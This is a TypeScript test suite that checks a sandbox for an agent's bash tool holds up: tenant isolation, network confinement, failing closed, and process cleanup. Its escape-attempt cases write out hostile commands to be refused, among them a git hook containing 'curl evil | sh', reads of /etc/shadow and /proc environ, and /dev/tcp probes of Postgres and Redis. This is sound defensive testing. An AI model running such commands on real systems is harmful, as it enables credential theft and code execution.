import { spawn, type ChildProcess } from "node:child_process";
import { once } from "node:events";
import { chmod, mkdir, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import { connect, createServer, type Server, type Socket } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config.js";
import { sandboxFromConfig } from "../../src/sandbox/sandbox-from-config.js";
import { createSandbox, type SandboxRunner } from "../../src/sandbox/sandbox-runner.js";
import type { Confinement } from "../../src/sandbox/confinement.js";
import { defaultProcessLimits } from "../../src/core/process-limits.js";
import { bashTool } from "../../src/tools/builtin/bash-tool.js";
import { prepareShell } from "../../src/tools/shell/spawn-shell.js";
import type { Tool, ToolResult } from "../../src/tools/tool.js";
import { readyForTools, testIdentity, toolContext } from "../helpers/tool-context.js";
import { repoRoot } from "../helpers/test-env.js";
import { killAll, livingSlirp4netns, slirp4netnsLeftAfter, survivorsAfter, uniqueMarker } from "./host-processes.js";

// The real bash tool, approval mode "auto", sandbox { network: false }, a runner built from configuration as the service builds it.
const toolPath = "/usr/local/bin:/usr/bin:/bin";
let workspacesDir: string;
let workspace: string;
let sibling: string;
let outside: string;
let runner: SandboxRunner;
const bash = bashTool as unknown as Tool<{ command: string; timeoutMs?: number }>;
let server: Server;
let port: number;
let connections = 0;
/** A second server, on every address of the host (0.0.0.0): reached from a network-granted sandbox through the host's non-loopback address. */
let wideServer: Server;
let widePort: number;
let wideConnections = 0;
const sockets = new Set<Socket>();
const markers = new Set<string>();
const hostChildren: ChildProcess[] = [];

beforeAll(async () => {
  workspacesDir = await realpath(await mkdtemp(path.join(tmpdir(), "foya-sbx-ws-")));
  workspace = path.join(workspacesDir, "tenant-a", "project-1");
  sibling = path.join(workspacesDir, "tenant-b", "project-2");
  await mkdir(path.join(workspace, ".git", "hooks"), { recursive: true });
  await writeFile(path.join(workspace, ".git", "config"), "[core]\n\tbare = false\n");
  await mkdir(sibling, { recursive: true });
  await writeFile(path.join(sibling, "secret.txt"), "tenant-b-secret\n");
  outside = await realpath(await mkdtemp(path.join(tmpdir(), "foya-sbx-outside-")));
  // The fake bwrap and slirp4netns below run as the tenant's uid: it may pass through, not list or write.
  await chmod(outside, 0o711);
  runner = sandboxFromConfig(loadConfig({ FOYA_WORKSPACES_DIR: workspacesDir, PATH: toolPath }));
  await readyForTools(workspace);
  server = createServer((socket) => {
    connections++;
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    // A client that connects and exits at once (bash's /dev/tcp) resets the connection: no error for this test.
    socket.on("error", () => {});
    socket.end("HTTP/1.0 200 OK\r\ncontent-length: 5\r\n\r\nhello");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as { port: number }).port;
  wideServer = createServer((socket) => {
    wideConnections++;
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
    // A client that connects and exits at once (bash's /dev/tcp) resets the connection: no error for this test.
    socket.on("error", () => {});
    socket.end("HTTP/1.0 200 OK\r\ncontent-length: 4\r\n\r\nwide");
  });
  await new Promise<void>((resolve) => wideServer.listen(0, "0.0.0.0", resolve));
  widePort = (wideServer.address() as { port: number }).port;
});

afterAll(async () => {
  await killAll(markers);
  for (const child of hostChildren) child.kill("SIGKILL");
  for (const socket of sockets) socket.destroy();
  await new Promise((resolve) => server.close(resolve));
  await new Promise((resolve) => wideServer.close(resolve));
  await rm(workspacesDir, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

interface RunOptions {
  confinement?: Confinement;
  signal?: AbortSignal;
  timeoutMs?: number;
  /** The runner to plan with; null for none at all. Default: the one the service builds. */
  runner?: SandboxRunner | null;
}

const networked = { confinement: { kind: "sandbox", network: true } } as const;

const run = (command: string, options: RunOptions = {}): Promise<ToolResult> =>
  bash.run(
    toolContext({
      workspaceDir: workspace,
      exposedTools: ["bash"],
      runner: options.runner === undefined ? runner : options.runner,
      ...(options.confinement ? { confinement: options.confinement } : {}),
      ...(options.signal ? { signal: options.signal } : {}),
    }),
    { command, ...(options.timeoutMs ? { timeoutMs: options.timeoutMs } : {}) },
    { callId: "c", name: "bash", argumentsRaw: "" },
  );
const text = (result: ToolResult) => (result.content[0]?.type === "text" ? result.content[0].text : "");

/** An escape attempt must fail from inside a sandbox that really ran: a non-zero exit, never exit 0 and never "sandbox unavailable". */
async function refused(command: string, options: RunOptions = {}): Promise<string> {
  const result = await run(command, options);
  expect(result, `${command}\n${text(result)}`).toMatchObject({ isError: true, errorCode: "exit_code" });
  expect(text(result)).not.toMatch(/\[exit code 0\]$/);
  return text(result);
}

describe("sandbox escapes", () => {
  it("S3: writes outside the workspace fail and leave the host untouched", async () => {
    const targets = [
      path.join(outside, "pwned.txt"),
      "/etc/foya-pwned",
      path.join(repoRoot, "pwned.txt"),
      path.join(repoRoot, "src", "pwned.ts"),
      path.join(workspacesDir, "pwned.txt"),
      path.join(sibling, "pwned.txt"),
      "/usr/local/bin/pwned",
      "/root/pwned.txt",
      "/pwned.txt",
    ];
    for (const target of targets) {
      await refused(`echo pwned > ${target}`);
      expect(existsSync(target), target).toBe(false);
    }
    // Nor can the missing folders be made: the root and the path down to the workspace are read-only.
    await refused(`mkdir -p ${repoRoot}/deep && echo pwned > ${repoRoot}/deep/x`);
    expect(existsSync(path.join(repoRoot, "deep"))).toBe(false);
    await refused(`mkdir ${workspacesDir}/tenant-c`);
    await refused(`echo pwned > ${path.dirname(workspace)}/pwned.txt`);
    expect(existsSync(path.join(path.dirname(workspace), "pwned.txt"))).toBe(false);
  });

  it("S3: another tenant's workspace is neither readable nor listed", async () => {
    expect(await refused(`cat ${path.join(sibling, "secret.txt")}`)).not.toContain("tenant-b-secret");
    expect(await refused(`ls ${sibling}`)).not.toContain("secret.txt");
    expect(await refused(`grep -r tenant-b-secret ${workspacesDir}`)).not.toContain("tenant-b-secret");
    // Only the path down to this workspace exists.
    const listed = await run(`ls ${workspacesDir}`);
    expect(text(listed)).not.toContain("tenant-b");
  });

  it("S3: the service's environment, files and secrets are not visible", async () => {
    process.env.FOYA_PROBE_SECRET = "must-not-leak";
    try {
      // Every process in the sandbox, its pid 1 included, sees only the small tool environment.
      const environments = await run(`for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done | cut -d= -f1 | sort -u`);
      expect(environments).toMatchObject({ content: [{ text: expect.stringMatching(/\[exit code 0\]$/) }] });
      const names = text(environments)
        .split("\n")
        .filter((line) => /^[A-Z_]+$/.test(line));
      expect(names.length).toBeGreaterThan(0);
      for (const name of names)
        expect(["PATH", "HOME", "TERM", "PAGER", "GIT_PAGER", "LANG", "PWD", "SHLVL", "_", "OLDPWD"]).toContain(name);
      const pid1 = await run("tr '\\0' '\\n' < /proc/1/environ");
      expect(text(pid1)).not.toMatch(/DATABASE_URL|REDIS_URL|must-not-leak/);
    } finally {
      delete process.env.FOYA_PROBE_SECRET;
    }
    // No process of the host is visible (the worker, Postgres, this test runner).
    const processes = await run("ps -eo comm=");
    expect(text(processes)).not.toMatch(/node|postgres|redis|vitest/);
    await refused(`cat ${path.join(repoRoot, "package.json")}`);
    // Absent, or (when the service lives below /tmp, as a CI clone may) an empty read-only cover: nothing of it shows.
    expect(text(await run(`ls -A ${repoRoot}`))).not.toMatch(/package\.json|node_modules|src/);
    await refused(`cat ${path.join(repoRoot, ".env")}`);
    await refused("cat /etc/shadow");
    await refused("ls /root");
    await refused("ls /var/run/postgresql /run/postgresql");
    await refused("ls /var/lib/postgresql");
    await refused(`cat /proc/${process.pid}/environ`);
  });

  it("S3: without the network grant, no port on 127.0.0.1 and no outside host is reachable", async () => {
    const before = connections;
    await refused(`exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`);
    await refused(`curl -sS --max-time 5 http://127.0.0.1:${port}/`);
    await refused("curl -sS --max-time 5 http://example.com/");
    await refused("curl -sS --max-time 5 http://1.1.1.1/");
    await refused("exec 3<>/dev/tcp/127.0.0.1/5432"); // Postgres, trust auth on this host
    expect(connections).toBe(before);
  });

  it("S3: .git/hooks and .git/config stay read-only, and .git cannot be swapped for another", async () => {
    const config = await readFile(path.join(workspace, ".git", "config"), "utf8");
    await refused("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
    await refused("echo '[core] hooksPath = /tmp' >> .git/config");
    await refused("git config core.hooksPath .evil-hooks");
    await refused("mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit");
    await refused("mv .git/hooks .git/hooks-old");
    await refused("mv .git/config .git/config-old");
    expect(existsSync(path.join(workspace, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(existsSync(path.join(workspace, ".git-old"))).toBe(false);
    expect(await readFile(path.join(workspace, ".git", "config"), "utf8")).toBe(config);
    // The rest of .git stays writable: git works.
    expect(await run("echo ref > .git/probe && cat .git/probe && mv .git/probe .git/probe-moved")).toMatchObject({
      content: [{ text: expect.stringContaining("ref") }],
    });
  });

  it("S3: a process outside the sandbox cannot be signalled", async () => {
    const marker = uniqueMarker();
    markers.add(marker);
    const sleeper = spawn("sleep", [marker], { stdio: "ignore" });
    hostChildren.push(sleeper);
    await once(sleeper, "spawn");
    await refused(`kill -9 ${sleeper.pid}`);
    // Signals reach a process in the order sent: had the sandbox's SIGKILL arrived, the sleeper
    // would end by it, whatever the test sends afterwards. No wait for "nothing happened".
    const exited = once(sleeper, "exit");
    sleeper.kill("SIGTERM");
    expect(await exited).toEqual([null, "SIGTERM"]);
  });

  it("S3: nothing the command started outlives the call", async () => {
    const marker = uniqueMarker();
    markers.add(marker);
    const result = await run(
      `(sleep ${marker} &); nohup sleep ${marker} > /dev/null 2>&1 & setsid sleep ${marker} > /dev/null 2>&1 & disown -a; echo started`,
    );
    expect(text(result)).toContain("started");
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });
});

describe("sandboxed work", () => {
  it("S3: legitimate work passes: the workspace is writable, tools run, /tmp is private", async () => {
    const name = `private-${uniqueMarker()}`;
    const result = await run(
      `echo hello > out.txt && cat out.txt && ls && node -e 'console.log(6 * 7)' && echo tmp > /tmp/${name} && cat /tmp/${name} && git init -q repo && echo "home=$HOME" && pwd`,
    );
    expect(result.isError, text(result)).toBeUndefined();
    expect(text(result)).toMatch(/hello\n(.|\n)*42\ntmp\nhome=/);
    expect(text(result)).toContain(`home=${workspace}\n${workspace}\n`);
    expect(await readFile(path.join(workspace, "out.txt"), "utf8")).toBe("hello\n");
    expect(existsSync(path.join(workspace, "repo", ".git"))).toBe(true);
    expect(existsSync(path.join("/tmp", name))).toBe(false);
  });

  it("S3: a network-granted sandbox reaches the outside but not the host's loopback services", async () => {
    const before = connections;
    // The host's 127.0.0.1 is not the sandbox's: nothing listens there.
    await refused(`exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`, networked);
    await refused(`curl -sS --max-time 5 http://127.0.0.1:${port}/`, networked);
    // Nor does slirp4netns's gateway alias 10.0.2.2 lead to it (--disable-host-loopback).
    await refused(`exec 3<>/dev/tcp/10.0.2.2/${port} && echo connected`, networked);
    await refused(`curl -sS --max-time 5 http://10.0.2.2:${port}/`, networked);
    expect(connections).toBe(before);

    // The sandbox has its own network namespace, connected: tap0 with 10.0.2.100 and a default route via 10.0.2.2.
    const inside = await run(
      "cat /proc/net/route; grep -q '10.0.2.100' /proc/net/fib_trie && echo has-address; cat /etc/resolv.conf",
      networked,
    );
    expect(text(inside), text(inside)).toMatch(/\[exit code 0\]$/);
    expect(text(inside)).toContain("has-address\n");
    expect(text(inside)).toMatch(/^tap0\t00000000\t0202000A\t0003\t/m); // default route, gateway 10.0.2.2
    expect(text(inside)).not.toMatch(/^nameserver 127\./m);
    expect(text(inside)).toMatch(/^nameserver /m);

    // Outside connectivity, shown without the internet (which this machine may not have): the host's
    // non-loopback address is outside the sandbox, and a server listening there answers, through slirp4netns.
    const external = Object.values(networkInterfaces())
      .flat()
      .find((address) => address && address.family === "IPv4" && !address.internal)?.address;
    if (external) {
      const wideBefore = wideConnections;
      const reached = await run(`exec 3<>/dev/tcp/${external}/${widePort} && cat <&3`, networked);
      expect(text(reached), text(reached)).toMatch(/wide\n\[exit code 0\]$/);
      expect(wideConnections).toBe(wideBefore + 1);
      // Without the grant the same address is out of reach.
      await refused(`exec 3<>/dev/tcp/${external}/${widePort} && cat <&3`);
      expect(wideConnections).toBe(wideBefore + 1);
    }
    // Only the network is granted: the file system stays confined.
    await refused(`cat ${path.join(sibling, "secret.txt")}`, networked);
  });

  it("S3: Postgres and Redis on the host's loopback are out of reach of a network-granted sandbox", async () => {
    // They do listen on this host (the suite needs them): the refusals below are the sandbox's doing.
    const listening = (p: number) =>
      new Promise<boolean>((resolve) => {
        const socket = connect(p, "127.0.0.1", () => {
          socket.destroy();
          resolve(true);
        });
        socket.on("error", () => resolve(false));
      });
    expect(await listening(5432), "Postgres on 127.0.0.1:5432").toBe(true);
    expect(await listening(6379), "Redis on 127.0.0.1:6379").toBe(true);
    for (const service of [5432, 6379]) {
      for (const address of ["127.0.0.1", "localhost", "::1", "10.0.2.2", "10.0.2.3"]) {
        await refused(`timeout 5 bash -c 'exec 3<>/dev/tcp/${address}/${service}' && echo reached`, networked);
      }
    }
  });

  it.runIf(process.getuid?.() === 0)(
    "S3: with a loopback resolver on the host (systemd-resolved, dnsmasq), slirp4netns's DNS address does not lead to the host's loopback",
    async () => {
      // slirp4netns's 10.0.2.3 forwards to the host's first nameserver. Here slirp4netns sees a resolv.conf naming
      // 127.0.0.1 (a private mount namespace, as root), where this test's server and Postgres listen.
      const fakeResolvConf = path.join(outside, "loopback-resolv.conf");
      await writeFile(fakeResolvConf, "nameserver 127.0.0.1\n");
      const wrapper = path.join(outside, "slirp4netns-loopback-dns");
      await writeFile(
        wrapper,
        `#!/bin/sh\nexec unshare --mount --propagation private sh -c 'mount --bind "$0" /etc/resolv.conf && exec slirp4netns "$@"' ${fakeResolvConf} "$@"\n`,
      );
      await chmod(wrapper, 0o755);
      const tool = createSandbox({
        bwrapPath: "bwrap",
        slirp4netnsPath: wrapper,
        searchPath: toolPath,
        workspacesDir,
        servicePaths: [repoRoot],
      });
      const before = connections;
      // The network is up through the wrapper...
      expect(text(await run("cat /proc/net/route", { runner: tool, ...networked }))).toMatch(/^tap0\t00000000\t0202000A/m);
      // ...and the DNS alias refuses every port, as it does any other path to the host's loopback (so names do
      // not resolve through it there either: the sandbox's resolv.conf then names the host's upstream servers).
      for (const target of [port, 5432, 6379]) {
        await refused(`timeout 5 bash -c 'exec 3<>/dev/tcp/10.0.2.3/${target}' && echo reached`, { runner: tool, ...networked });
      }
      expect(connections).toBe(before);
    },
  );

  it("S8: Full Access sees the host's files as the tenant's uid, not as root: the service, other workspaces and the host's loopback stay out of reach", async () => {
    const fullAccess = { confinement: { kind: "full_access" } } as const;
    const before = connections;
    // The host's system is there (Full Access is not the whitelist)...
    const system = await run("cat /etc/hostname > /dev/null && ls /var > /dev/null && id -u && echo seen", fullAccess);
    expect(text(system)).toMatch(/^0\nseen\n\n\[exit code 0\]$/);
    // ...but only as the tenant's own uid: nothing root's may be written, and the service's secrets are hidden.
    await refused(`echo written > ${path.join(outside, "full-access.txt")}`, fullAccess);
    expect(existsSync(path.join(outside, "full-access.txt"))).toBe(false);
    await refused("echo pwned > /etc/foya-pwned", fullAccess);
    await refused(`cat ${path.join(repoRoot, "package.json")}`, fullAccess);
    await refused("cat /etc/shadow", fullAccess);
    await refused(`cat ${path.join(sibling, "secret.txt")}`, fullAccess);
    await refused(`cat /proc/${process.pid}/environ`, fullAccess);
    // Its own PID namespace: no host process to see or signal.
    expect(text(await run("ps -eo comm=", fullAccess))).not.toMatch(/node|postgres|redis|vitest/);
    // The network, but not the host's loopback services.
    await refused(`timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}' && echo reached`, fullAccess);
    await refused("timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432' && echo reached", fullAccess);
    expect(connections).toBe(before);
    // The workspace is the tenant's to change, as in the sandbox.
    expect(text(await run("echo mine > full.txt && cat full.txt", fullAccess))).toBe("mine\n\n[exit code 0]");
  });

  it("S3: the sandbox fails closed with a clear error when bwrap is missing, and the command never runs", async () => {
    const target = path.join(outside, "ran-unsandboxed.txt");
    const missing = createSandbox({ bwrapPath: "/nonexistent/bwrap", searchPath: toolPath, workspacesDir, servicePaths: [repoRoot] });
    const result = await run(`echo ran > ${target}`, { runner: missing });
    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(text(result)).toMatch(/Sandbox unavailable: bubblewrap \("\/nonexistent\/bwrap"\) is not installed/);
    expect(text(result)).toContain("install the Debian package bubblewrap");
    expect(text(result)).toContain("never run unconfined");
    // A bwrap looked up by name on a PATH without it, and a tool built without any runner, refuse the same way.
    const unnamed = createSandbox({ bwrapPath: "bwrap", searchPath: outside, workspacesDir, servicePaths: [repoRoot] });
    expect(await run(`echo ran > ${target}`, { runner: unnamed })).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(await run(`echo ran > ${target}`, { runner: null })).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(existsSync(target)).toBe(false);
  });

  it("S3: the sandbox fails closed when bwrap cannot set it up, with bwrap's reason", async () => {
    // A bwrap that fails before starting its child, as one without namespace permissions does.
    const fake = path.join(outside, "bwrap");
    await writeFile(fake, "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n");
    await chmod(fake, 0o755);
    const broken = createSandbox({ bwrapPath: fake, searchPath: toolPath, workspacesDir, servicePaths: [repoRoot] });
    const result = await run("echo hi", { runner: broken });
    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(text(result)).toContain("bubblewrap could not set up the sandbox (bwrap: No permissions to create new namespace)");
    expect(text(result)).toContain("install the Debian package bubblewrap");
    // With the network grant bwrap runs under unshare: the same refusal, with the network's fixes.
    const withNetwork = await run("echo hi", { runner: broken, ...networked });
    expect(withNetwork).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(text(withNetwork)).toContain("bubblewrap could not set up the sandbox (bwrap: No permissions to create new namespace)");
    expect(text(withNetwork)).toContain("install the Debian package slirp4netns");
    expect(await slirp4netnsLeftAfter(1000)).toEqual([]);
  });
});

describe("sandboxed network", () => {
  it("S3: a network-granted call fails closed when slirp4netns is missing, with a clear error; calls without the network still run", async () => {
    const target = path.join(outside, "ran-without-slirp.txt");
    // Configured as the service configures it (FOYA_SLIRP4NETNS_PATH).
    const missing = sandboxFromConfig(
      loadConfig({ FOYA_WORKSPACES_DIR: workspacesDir, PATH: toolPath, FOYA_SLIRP4NETNS_PATH: "/nonexistent/slirp4netns" }),
    );
    const result = await run(`echo ran > ${target}`, { runner: missing, ...networked });
    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(text(result)).toMatch(/^Sandbox unavailable: slirp4netns \("\/nonexistent\/slirp4netns"\) is not installed on this worker/);
    expect(text(result)).toContain("install the Debian package slirp4netns");
    expect(text(result)).toContain("FOYA_SLIRP4NETNS_PATH");
    expect(text(result)).toContain("never on the host's network");
    expect(existsSync(target)).toBe(false);
    // Looked up by name on a PATH without it: the same.
    const emptyDir = await mkdtemp(path.join(outside, "empty-path-"));
    const unnamed = createSandbox({ bwrapPath: "/usr/bin/bwrap", searchPath: emptyDir, workspacesDir, servicePaths: [repoRoot] });
    expect(await run(`echo ran > ${target}`, { runner: unnamed, ...networked })).toMatchObject({
      isError: true,
      errorCode: "sandbox_unavailable",
    });
    expect(existsSync(target)).toBe(false);
    // Without the network grant slirp4netns is not needed.
    expect(text(await run("echo fine", { runner: missing }))).toBe("fine\n\n[exit code 0]");
  });

  it("S3: a network-granted call fails closed when slirp4netns cannot connect the sandbox, with its reason, and the command never runs", async () => {
    // A slirp4netns that fails as one without the right to enter the namespace does.
    const fake = path.join(outside, "slirp4netns");
    await writeFile(fake, "#!/bin/sh\necho 'setns(CLONE_NEWNET): Operation not permitted' >&2\nexit 1\n");
    await chmod(fake, 0o755);
    const marker = uniqueMarker();
    markers.add(marker);
    const target = path.join(workspace, `never-${marker}.txt`);
    const broken = createSandbox({
      bwrapPath: "bwrap",
      slirp4netnsPath: fake,
      searchPath: toolPath,
      workspacesDir,
      servicePaths: [repoRoot],
    });
    const result = await run(`echo ran > ${target}; sleep ${marker}`, { runner: broken, ...networked });
    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(text(result)).toContain(
      "slirp4netns could not connect the sandbox's network (slirp4netns exited (status 1) before the network was up: setns(CLONE_NEWNET): Operation not permitted)",
    );
    expect(text(result)).toContain("install the Debian package slirp4netns");
    expect(existsSync(target)).toBe(false);
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });

  it("S3: when slirp4netns exits while the command runs, the command is stopped and the call says why", async () => {
    // A slirp4netns that reports ready, then fails, as one whose own confinement fails right after does.
    const fake = path.join(outside, "slirp4netns-dies");
    await writeFile(fake, "#!/bin/sh\necho 1 >&3\nexec 3>&-\nsleep 0.5\necho 'create_sandbox failed' >&2\nexit 1\n");
    await chmod(fake, 0o755);
    const marker = uniqueMarker();
    markers.add(marker);
    const dies = createSandbox({
      bwrapPath: "bwrap",
      slirp4netnsPath: fake,
      searchPath: toolPath,
      workspacesDir,
      servicePaths: [repoRoot],
    });
    const result = await run(`echo started; sleep ${marker}`, { runner: dies, ...networked });
    expect(result).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
    expect(text(result)).toContain(
      "the sandbox lost its network, and the command was stopped (slirp4netns exited (status 1) while the command ran: create_sandbox failed)",
    );
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });

  it("S3: slirp4netns does not outlive network-granted calls: finished, failed, timed out or cancelled", async () => {
    const marker = uniqueMarker();
    markers.add(marker);
    const results = await Promise.all([
      run("true", networked),
      run("exit 3", networked),
      run("cat /proc/net/route", networked),
      run(`sleep ${marker}`, { ...networked, timeoutMs: 300 }),
    ]);
    expect(results.map((result) => result.errorCode)).toEqual([undefined, "exit_code", undefined, "timeout"]);
    expect(await slirp4netnsLeftAfter(1000)).toEqual([]);

    // Cancelled once the command runs (slirp4netns is up by then).
    const controller = new AbortController();
    const started = run(`echo started; sleep ${marker}`, { ...networked, signal: controller.signal });
    await expect.poll(async () => (await survivorsAfter(marker, 0)).length, { timeout: 10_000 }).toBeGreaterThanOrEqual(3);
    expect((await livingSlirp4netns()).length).toBeGreaterThanOrEqual(1);
    controller.abort();
    expect(await started).toMatchObject({ isError: true, errorCode: "cancelled" });
    expect(await slirp4netnsLeftAfter(1000)).toEqual([]);
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });

  it("C1: a network-granted sandbox stopped at any point of its setup leaves nothing behind, slirp4netns included", async () => {
    const marker = uniqueMarker();
    markers.add(marker);
    for (let i = 0; i < 20; i++) {
      const prepared = await prepareShell({
        command: `sleep ${marker}`,
        cwd: workspace,
        path: toolPath,
        headBytes: 1024,
        tailBytes: 1024,
        confinement: { kind: "sandbox", network: true },
        identity: testIdentity,
        limits: defaultProcessLimits,
        runner,
      });
      if ("unavailable" in prepared) throw new Error(prepared.unavailable);
      const shell = prepared.start();
      await new Promise((resolve) => setTimeout(resolve, (i * 2) % 40));
      shell.killGroup();
      expect((await shell.ended).kind).toBe("signaled");
      expect(await slirp4netnsLeftAfter(1000)).toEqual([]);
    }
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });
});

describe("sandboxed cancellation", () => {
  it("C1: cancelling a sandboxed call kills its whole process tree", async () => {
    const marker = uniqueMarker();
    markers.add(marker);
    const controller = new AbortController();
    const started = run(`sleep ${marker} & (sleep ${marker} &); setsid sleep ${marker} & echo started; wait`, {
      signal: controller.signal,
    });
    // Cancel once the tree is up.
    const deadline = Date.now() + 10_000;
    while ((await survivorsAfter(marker, 0)).length < 4 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
    expect((await survivorsAfter(marker, 0)).length).toBeGreaterThanOrEqual(4); // bwrap, its init, and the sleeps
    controller.abort();
    expect(await started).toMatchObject({ isError: true, errorCode: "cancelled" });
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });

  it("C1: a sandboxed process stopped while bwrap is still setting up leaves nothing behind", async () => {
    // bwrap arms --die-with-parent only after setup; a stop in that window must still reach the sandbox.
    const marker = uniqueMarker();
    markers.add(marker);
    for (let i = 0; i < 40; i++) {
      const prepared = await prepareShell({
        command: `sleep ${marker}`,
        cwd: workspace,
        path: toolPath,
        headBytes: 1024,
        tailBytes: 1024,
        confinement: { kind: "sandbox", network: false },
        identity: testIdentity,
        limits: defaultProcessLimits,
        runner,
      });
      if ("unavailable" in prepared) throw new Error(prepared.unavailable);
      const shell = prepared.start();
      await new Promise((resolve) => setTimeout(resolve, i % 8));
      shell.killGroup();
      expect((await shell.ended).kind).toBe("signaled");
    }
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });

  it("C1: a timeout kills the whole sandboxed process tree", async () => {
    const marker = uniqueMarker();
    markers.add(marker);
    const result = await run(`sleep ${marker} & nohup sleep ${marker} > /dev/null 2>&1 & sleep ${marker}`, { timeoutMs: 500 });
    expect(result).toMatchObject({ isError: true, errorCode: "timeout" });
    expect(await survivorsAfter(marker, 1000)).toEqual([]);
  });
});
